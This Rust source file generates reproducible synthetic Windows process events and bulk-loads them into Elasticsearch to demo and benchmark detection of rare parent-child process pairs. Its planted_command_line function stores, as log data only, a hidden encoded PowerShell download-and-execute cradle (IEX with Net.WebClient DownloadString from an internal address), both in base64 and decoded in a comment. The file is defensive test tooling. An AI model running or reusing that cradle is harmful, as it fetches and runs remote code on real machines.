//! esoutliers-sample: a seeded, reproducible generator of synthetic endpoint process
//! events (ECS `process.*` fields), loaded into Elasticsearch with parallel `_bulk`
//! requests. Used by `make demo` and `make bench`; lives in the `esoutliers-tools` crate,
//! not in the product.
//!
//! The data: benign background where every parent spawns a handful of usual children with
//! comparable frequencies, spread over hosts and the last `--days` days, plus a fixed list
//! of planted rare (parent, child) pairs with 1-3 events each (printed at the end, and
//! written to `--planted FILE` as JSON). Same seed and arguments -> same events.

use std::sync::Arc;
use std::time::Duration;

use clap::{Parser, Subcommand};
use indicatif::{ProgressBar, ProgressStyle};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{json, Value};
use time::format_description::well_known::Rfc3339;
use time::OffsetDateTime;

#[derive(Parser)]
#[command(
    name = "esoutliers-sample",
    about = "Generate and load synthetic process events"
)]
struct Cli {
    #[command(subcommand)]
    cmd: Cmd,
}

#[derive(Subcommand)]
enum Cmd {
    /// Generate events and load them with _bulk.
    Load(Args),
    /// Print the generated events as NDJSON (no cluster needed).
    Print(Args),
}

#[derive(Parser, Clone)]
struct Args {
    /// Cluster URL.
    #[arg(long, env = "ES_URL", default_value = "http://127.0.0.1:9200")]
    url: String,
    #[arg(long, default_value = "logs-endpoint-demo")]
    index: String,
    #[arg(long, default_value_t = 300_000)]
    events: u64,
    #[arg(long, default_value_t = 40)]
    hosts: usize,
    /// Distinct parent process names (the first ones are well-known Windows programs).
    #[arg(long, default_value_t = 30)]
    parents: usize,
    /// Size of the pool of child process names.
    #[arg(long, default_value_t = 120)]
    children: usize,
    /// Usual children per parent (each parent picks this many from the pool).
    #[arg(long, default_value_t = 8)]
    children_per_parent: usize,
    /// Zipf exponent of the parent popularity (0 = uniform; ~1 = power law).
    #[arg(long, default_value_t = 0.8)]
    parent_skew: f64,
    #[arg(long, default_value_t = 7)]
    seed: u64,
    /// Events are spread over this many days before --now.
    #[arg(long, default_value_t = 7)]
    days: u64,
    /// End of the generated period, RFC 3339 (default: now).
    #[arg(long)]
    now: Option<String>,
    /// Delete the index first.
    #[arg(long)]
    replace: bool,
    /// Events per _bulk request.
    #[arg(long, default_value_t = 5_000)]
    batch: usize,
    /// _bulk requests in flight.
    #[arg(long, default_value_t = 3)]
    parallel: usize,
    /// Write the planted pairs as JSON to this file.
    #[arg(long)]
    planted: Option<std::path::PathBuf>,
}

/// A planted rare pair: parent, child, number of events.
const PLANTED: [(&str, &str, u64); 5] = [
    ("winword.exe", "cmd.exe", 1),
    ("excel.exe", "powershell.exe", 2),
    ("outlook.exe", "mshta.exe", 1),
    ("acrord32.exe", "rundll32.exe", 3),
    ("explorer.exe", "certutil.exe", 1),
];

const KNOWN_PARENTS: [&str; 12] = [
    "explorer.exe",
    "services.exe",
    "svchost.exe",
    "winword.exe",
    "excel.exe",
    "outlook.exe",
    "chrome.exe",
    "acrord32.exe",
    "cmd.exe",
    "powershell.exe",
    "taskeng.exe",
    "msiexec.exe",
];

const KNOWN_CHILDREN: [&str; 16] = [
    "conhost.exe",
    "splwow64.exe",
    "chrome.exe",
    "notepad.exe",
    "dllhost.exe",
    "wmiprvse.exe",
    "taskhostw.exe",
    "searchprotocolhost.exe",
    "msedge.exe",
    "onedrive.exe",
    "teams.exe",
    "ctfmon.exe",
    "backgroundtaskhost.exe",
    "runtimebroker.exe",
    "smartscreen.exe",
    "audiodg.exe",
];

struct World {
    parents: Vec<String>,
    parent_weights: Vec<f64>,
    /// For each parent: its usual children and their weights.
    children: Vec<Vec<(String, f64)>>,
    hosts: Vec<String>,
    users: Vec<String>,
}

fn world(a: &Args, rng: &mut StdRng) -> World {
    let parents: Vec<String> = (0..a.parents.max(1))
        .map(|i| {
            KNOWN_PARENTS
                .get(i)
                .map(|s| s.to_string())
                .unwrap_or_else(|| format!("app{i:04}.exe"))
        })
        .collect();
    let parent_weights: Vec<f64> = (0..parents.len())
        .map(|i| 1.0 / ((i + 1) as f64).powf(a.parent_skew))
        .collect();
    let pool: Vec<String> = (0..a.children.max(1))
        .map(|i| {
            KNOWN_CHILDREN
                .get(i)
                .map(|s| s.to_string())
                .unwrap_or_else(|| format!("tool{i:05}.exe"))
        })
        .collect();
    let planted_children: Vec<&str> = PLANTED.iter().map(|p| p.1).collect();
    let children = parents
        .iter()
        .map(|p| {
            let k = a.children_per_parent.min(pool.len()).max(1);
            let mut picked: Vec<(String, f64)> = Vec::with_capacity(k);
            while picked.len() < k {
                // Popular pool entries are picked more often (power law over the pool).
                let r: f64 = rng.gen();
                let idx = ((pool.len() as f64).powf(r) - 1.0) as usize % pool.len();
                let c = &pool[idx];
                if c == p
                    || picked.iter().any(|(x, _)| x == c)
                    || planted_children.contains(&c.as_str())
                {
                    if picked.len() + planted_children.len() + 1 >= pool.len() {
                        break;
                    }
                    continue;
                }
                // Usual children have comparable frequencies (weights 1..4), so the only
                // rare pairs are the planted ones.
                picked.push((c.clone(), rng.gen_range(1.0..4.0)));
            }
            picked
        })
        .collect();
    let hosts = (0..a.hosts.max(1))
        .map(|i| format!("ws-{i:04}.corp.example"))
        .collect();
    let users = (0..(a.hosts.max(1) * 2))
        .map(|i| format!("user{i:04}"))
        .collect();
    World {
        parents,
        parent_weights,
        children,
        hosts,
        users,
    }
}

fn pick(weights: &[f64], total: f64, rng: &mut StdRng) -> usize {
    let mut r = rng.gen::<f64>() * total;
    for (i, w) in weights.iter().enumerate() {
        if r < *w {
            return i;
        }
        r -= w;
    }
    weights.len() - 1
}

fn event(
    parent: &str,
    child: &str,
    host: &str,
    user: &str,
    ts: OffsetDateTime,
    rng: &mut StdRng,
) -> Value {
    let pid: u32 = rng.gen_range(1000..65000);
    let ppid: u32 = rng.gen_range(100..65000);
    let exe = |n: &str| {
        format!(
            "C:\\Program Files\\Vendor\\{}\\{}",
            n.trim_end_matches(".exe"),
            n
        )
    };
    let args: String = (0..rng.gen_range(1..5))
        .map(|_| format!(" /opt{}", rng.gen_range(0..1000)))
        .collect();
    json!({
        "@timestamp": ts.format(&Rfc3339).unwrap_or_default(),
        "event": { "category": "process", "type": "start", "kind": "event", "module": "sysmon", "dataset": "windows.sysmon_operational", "code": "1" },
        "host": { "name": host, "os": { "family": "windows", "name": "Windows 10 Enterprise", "version": "10.0" } },
        "user": { "name": user, "domain": "CORP" },
        "agent": { "type": "winlogbeat", "version": "7.10.2" },
        "tags": ["endpoint"],
        "process": {
            "name": child,
            "pid": pid,
            "executable": exe(child),
            "command_line": format!("\"{}\"{}", exe(child), args),
            "working_directory": "C:\\Windows\\system32\\",
            "parent": {
                "name": parent,
                "pid": ppid,
                "executable": exe(parent),
                "command_line": format!("\"{}\"", exe(parent))
            }
        }
    })
}

/// Every event, in generation order, via `emit`; returns the planted pairs.
fn generate(a: &Args, mut emit: impl FnMut(Value)) -> Vec<(String, String, u64)> {
    let mut rng = StdRng::seed_from_u64(a.seed);
    let w = world(a, &mut rng);
    let now = a
        .now
        .as_deref()
        .map(|s| OffsetDateTime::parse(s, &Rfc3339).expect("--now must be RFC 3339"))
        .unwrap_or_else(OffsetDateTime::now_utc);
    let span = (a.days.max(1) * 86_400) as i64;
    let ts = |rng: &mut StdRng| now - time::Duration::seconds(rng.gen_range(1..span));
    let total_w: f64 = w.parent_weights.iter().sum();
    let planted: Vec<(String, String, u64)> = PLANTED
        .iter()
        .filter(|p| w.parents.iter().any(|x| x == p.0))
        .map(|p| (p.0.into(), p.1.into(), p.2))
        .collect();
    let n_planted: u64 = planted.iter().map(|p| p.2).sum();
    for _ in 0..a.events.saturating_sub(n_planted) {
        let p = pick(&w.parent_weights, total_w, &mut rng);
        let kids = &w.children[p];
        let kw: Vec<f64> = kids.iter().map(|k| k.1).collect();
        let c = pick(&kw, kw.iter().sum(), &mut rng);
        let host = &w.hosts[rng.gen_range(0..w.hosts.len())];
        let user = &w.users[rng.gen_range(0..w.users.len())];
        let t = ts(&mut rng);
        emit(event(&w.parents[p], &kids[c].0, host, user, t, &mut rng));
    }
    for (p, c, n) in &planted {
        for _ in 0..*n {
            let host = &w.hosts[rng.gen_range(0..w.hosts.len())];
            let user = &w.users[rng.gen_range(0..w.users.len())];
            let t = ts(&mut rng);
            let mut ev = event(p, c, host, user, t, &mut rng);
            if let Some(cmd) = planted_command_line(c) {
                ev["process"]["command_line"] = json!(cmd);
            }
            emit(ev);
        }
    }
    planted
}

/// The command line of a planted event where it tells the story: the PowerShell that
/// Excel starts runs hidden with an encoded command (what `queries/encoded_powershell.conf`
/// finds, and a long base64 word for a metrics use case).
fn planted_command_line(child: &str) -> Option<String> {
    // "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')" in UTF-16LE, base64.
    const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACcAKQA=";
    (child == "powershell.exe")
        .then(|| format!("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {ENCODED}"))
}

fn mapping() -> Value {
    json!({
        "settings": { "number_of_shards": 1, "number_of_replicas": 0, "refresh_interval": "-1" },
        "mappings": {
            "dynamic_templates": [ { "strings": { "match_mapping_type": "string", "mapping": { "type": "keyword", "ignore_above": 1024 } } } ],
            "properties": {
                "@timestamp": { "type": "date" },
                "process": { "properties": {
                    "command_line": { "type": "keyword", "ignore_above": 4096 },
                    "pid": { "type": "long" },
                    "parent": { "properties": { "pid": { "type": "long" } } }
                } }
            }
        }
    })
}

async fn load(a: Args) -> anyhow::Result<()> {
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(300))
        .build()?;
    let base = a.url.trim_end_matches('/').to_string();
    let idx = format!("{base}/{}", a.index);
    if a.replace {
        client.delete(&idx).send().await?;
    }
    let r = client.put(&idx).json(&mapping()).send().await?;
    if !r.status().is_success() {
        let body = r.text().await?;
        if !body.contains("resource_already_exists_exception") {
            anyhow::bail!("cannot create index {}: {body}", a.index);
        }
    }
    let bar = ProgressBar::new(a.events);
    bar.set_style(ProgressStyle::with_template(
        "{spinner} loading {pos}/{len} events {wide_bar} {per_sec} eta {eta}",
    )?);
    if !console_is_tty() {
        bar.set_draw_target(indicatif::ProgressDrawTarget::hidden());
    }
    let sem = Arc::new(tokio::sync::Semaphore::new(a.parallel.max(1)));
    let (tx, mut rx) = tokio::sync::mpsc::channel::<(Vec<u8>, u64)>(a.parallel.max(1) * 2);
    let gen_args = a.clone();
    let producer = tokio::task::spawn_blocking(move || {
        let mut buf = Vec::with_capacity(gen_args.batch * 900);
        let mut n = 0u64;
        let planted = generate(&gen_args, |ev| {
            buf.extend_from_slice(b"{\"index\":{}}\n");
            serde_json::to_writer(&mut buf, &ev).expect("serialise");
            buf.push(b'\n');
            n += 1;
            if n as usize >= gen_args.batch {
                let _ = tx.blocking_send((std::mem::take(&mut buf), n));
                n = 0;
            }
        });
        if n > 0 {
            let _ = tx.blocking_send((buf, n));
        }
        planted
    });
    let mut handles = Vec::new();
    let bulk = format!("{idx}/_bulk");
    while let Some((body, n)) = rx.recv().await {
        let permit = sem.clone().acquire_owned().await?;
        let (client, bulk, bar) = (client.clone(), bulk.clone(), bar.clone());
        handles.push(tokio::spawn(async move {
            let _permit = permit;
            for attempt in 0..5u32 {
                match client
                    .post(&bulk)
                    .header("Content-Type", "application/x-ndjson")
                    .body(body.clone())
                    .send()
                    .await
                {
                    Ok(r) if r.status().is_success() => {
                        let v: Value = r.json().await?;
                        if v["errors"].as_bool() == Some(true) {
                            anyhow::bail!("bulk errors: {}", v["items"][0]);
                        }
                        bar.inc(n);
                        return Ok(());
                    }
                    Ok(r) if r.status().as_u16() == 429 => {}
                    Ok(r) => anyhow::bail!(
                        "bulk failed: HTTP {}: {}",
                        r.status(),
                        r.text().await.unwrap_or_default()
                    ),
                    Err(e) if attempt < 4 => eprintln!("bulk: {e}; retrying"),
                    Err(e) => return Err(e.into()),
                }
                tokio::time::sleep(Duration::from_millis(500 << attempt)).await;
            }
            anyhow::bail!("bulk: gave up after retries")
        }));
    }
    for h in handles {
        h.await??;
    }
    let planted = producer.await?;
    bar.finish_and_clear();
    client
        .put(format!("{idx}/_settings"))
        .json(&json!({ "index": { "refresh_interval": "1s" } }))
        .send()
        .await?;
    client.post(format!("{idx}/_refresh")).send().await?;
    eprintln!(
        "loaded {} events into {} ({} hosts, {} parents)",
        a.events, a.index, a.hosts, a.parents
    );
    let planted_json: Vec<Value> = planted
        .iter()
        .map(|(p, c, n)| json!({ "parent": p, "child": c, "events": n }))
        .collect();
    eprintln!("planted rare pairs:");
    for (p, c, n) in &planted {
        eprintln!("  {p} -> {c} ({n} event(s))");
    }
    if let Some(path) = &a.planted {
        std::fs::write(path, serde_json::to_vec_pretty(&planted_json)?)?;
    }
    Ok(())
}

fn console_is_tty() -> bool {
    use std::io::IsTerminal;
    std::io::stderr().is_terminal()
}

fn main() -> anyhow::Result<()> {
    let cli = Cli::parse();
    match cli.cmd {
        Cmd::Print(a) => {
            use std::io::Write;
            let out = std::io::stdout();
            let mut out = std::io::BufWriter::new(out.lock());
            generate(&a, |ev| {
                let _ = serde_json::to_writer(&mut out, &ev);
                let _ = out.write_all(b"\n");
            });
            Ok(())
        }
        Cmd::Load(a) => tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()?
            .block_on(load(a)),
    }
}
